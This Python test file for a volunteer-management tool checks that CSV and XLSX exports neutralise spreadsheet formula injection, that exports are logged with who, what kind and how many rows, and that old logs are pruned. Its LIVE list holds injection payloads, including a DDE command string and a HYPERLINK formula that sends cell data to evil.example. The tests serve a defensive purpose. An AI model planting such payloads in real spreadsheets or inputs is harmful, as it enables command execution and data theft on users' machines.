"""A file that leaves: nothing in it comes alive in a spreadsheet program, and it is noted who took how much."""

import csv
import io
import json
import os
import re
import stat
import zipfile
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path

import pytest

from community import exports
from community.book import utc_now
from community.runtime.book_opening import open_book
from community.settings import load
from community.tables.canonical import moment
from tests.book.builders import make_volunteer
from tests.book.town import Town
from tests.commands.household import Run, lines

# Where somebody types them: a name. From lists of what spreadsheet programs are known to run.
LIVE = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1,"Click")',
    "+44 7700 900123",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u200b=1+1",
    "\u3000@SUM(1)",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "|calc",
    "%0A=1",
]
BEGINS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20|%")


@pytest.fixture
def typed(town: Town) -> None:
    book = open_book(load())
    for text in LIVE:
        book.append("volunteers", make_volunteer(name=text), by="web")
    book.close()


def noted(home: Path) -> list[dict[str, object]]:
    return [json.loads(line) for line in (home / "exports.jsonl").read_text("utf-8").splitlines()]


@pytest.mark.usefixtures("typed")
def test_nothing_in_a_csv_file_comes_alive(run: Run, tmp_path: Path) -> None:
    file = tmp_path / "list.csv"
    run("show", "volunteers", "--personal", "--to", str(file))
    heading, *rows = csv.reader(io.StringIO(file.read_text("utf-8-sig"), newline=""))
    assert len(rows) == 2 + len(LIVE)
    assert not [cell for row in rows for cell in row if cell.strip(" \u200b\u3000").startswith(BEGINS)]
    names = {row[heading.index("name")] for row in rows}
    assert {"'=1+1", "'+44 7700 900123", "'\uff1d1+1"} <= names, "what was typed is still there to be read"
    if os.name == "posix":  # Windows tells no such modes
        assert stat.S_IMODE(file.stat().st_mode) == 0o600


@pytest.mark.usefixtures("typed")
def test_every_cell_of_an_xlsx_file_is_text(run: Run, tmp_path: Path) -> None:
    file = tmp_path / "list.xlsx"
    run("show", "volunteers", "--personal", "--to", str(file))
    with zipfile.ZipFile(file) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
        assert not [each for each in parts.namelist() if "external" in each.lower() or "vba" in each.lower()]
        assert "=1+1" in parts.read("xl/sharedStrings.xml").decode()
    assert "<f>" not in sheet
    assert "hyperlink" not in sheet
    kinds = re.findall(r'<c r="[A-Z]+\d+"(?: s="\d+")?(?: t="(\w+)")?>', sheet)
    assert kinds
    assert set(kinds) == {"s"}


def test_it_is_noted_who_took_how_much_and_never_what(run: Run, town: Town, home: Path, tmp_path: Path) -> None:
    run("show", "volunteers")
    assert not (home / "exports.jsonl").exists(), "nothing about a person left"
    run("show", "volunteers", "--json")
    run("show", "volunteers", "--personal", "--to", str(tmp_path / "a.csv"))
    run("export-person", town.volunteer)
    run("backup", str(tmp_path / "b.zip"))
    told = noted(home)
    assert [(one["kind"], one["form"]) for one in told] == [
        ("show volunteers", "json"),
        ("show volunteers", "csv"),
        ("export-person", "json and txt"),
        ("backup", "zip"),
    ]
    assert all(one["by"] and one["at"] and isinstance(one["rows"], int) and one["rows"] > 0 for one in told)
    assert all(set(one) == {"at", "by", "kind", "form", "rows"} for one in told)
    if os.name == "posix":  # Windows tells no such modes
        assert stat.S_IMODE((home / "exports.jsonl").stat().st_mode) == 0o600


def test_what_can_not_be_noted_does_not_leave(run: Run, town: Town, home: Path, tmp_path: Path) -> None:
    (home / "exports.jsonl").mkdir()
    result = run("show", "volunteers", "--json", code=1)
    assert town.volunteer not in result.stdout
    run("show", "volunteers", "--to", str(tmp_path / "a.csv"), code=1)
    assert not (tmp_path / "a.csv").exists()


@pytest.mark.parametrize("name", ["list.txt", "list"])
def test_only_files_that_are_made_safe_can_be_asked_for(run: Run, town: Town, tmp_path: Path, name: str) -> None:
    assert ".csv or .xlsx" in run("show", "volunteers", "--to", str(tmp_path / name), code=2).stderr


def of(home: Path, *days_ago: float) -> None:
    """Notes from so many days ago."""
    for days in days_ago:
        exports.note(home, "show volunteers", "csv", 7, now=utc_now() - timedelta(days=days), by="jo")


def test_the_director_sees_who_took_what_and_when(run: Run, town: Town, home: Path) -> None:
    of(home, 3, 1)
    said = run("exported").stdout
    assert said.count("jo: show volunteers, csv, 7 rows") == 2
    assert [one["by"] for one in lines(run("exported", "--json"))] == ["jo", "jo"]
    assert "2 noted, the last show volunteers" in run("doctor").stdout


def test_notes_of_what_left_go_when_their_time_is_up(run: Run, town: Town, home: Path) -> None:
    of(home, 800, 740, 1)
    assert "2 notes of what left are older than 24 months" in run("retention").stdout
    assert "past their time" in run("doctor").stdout
    assert len(noted(home)) == 3
    run("retention", "--apply")
    assert len(noted(home)) == 1
    assert "past their time" not in run("doctor").stdout
    if os.name == "posix":
        assert stat.S_IMODE((home / "exports.jsonl").stat().st_mode) == 0o600


def test_what_is_noted_while_old_notes_go_is_kept_and_an_interruption_loses_none(
    run: Run, town: Town, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    began = utc_now()
    of(home, 800, 2)
    really = Path.unlink

    def interrupted(path: Path, **how: bool) -> None:
        if path.name.startswith("exports.jsonl"):
            raise KeyboardInterrupt
        really(path, **how)

    with monkeypatch.context() as now:
        now.setattr(Path, "unlink", interrupted)
        with pytest.raises(KeyboardInterrupt):
            exports.forget_old(home, utc_now(), 24)
    of(home, 1)
    ago = [began - moment(one.at) for one in exports.noted(home)]
    assert {round(one / timedelta(days=1)) for one in ago} >= {1, 2}
    exports.forget_old(home, utc_now(), 24)
    assert all(began - moment(one.at) < timedelta(days=3) for one in exports.noted(home))
    assert not (home / "exports.jsonl.aside").exists()


@pytest.mark.parametrize(
    ("spoil", "told", "code"),
    [
        (lambda file: file.write_text('{"at": "2026-'), "1 line of exports.jsonl can't be read", 0),
        (lambda file: file.mkdir(), "can't be read, so nothing can be given out", 1),
        (lambda file: exports.note(file.parent, "x", "csv", 1, now=utc_now() + timedelta(days=9)), "in the future", 0),
    ],
)
def test_doctor_tells_what_is_wrong_with_the_notes(
    run: Run, town: Town, home: Path, spoil: Callable[[Path], object], told: str, code: int
) -> None:
    spoil(home / "exports.jsonl")
    assert told in run("doctor", code=code).stdout
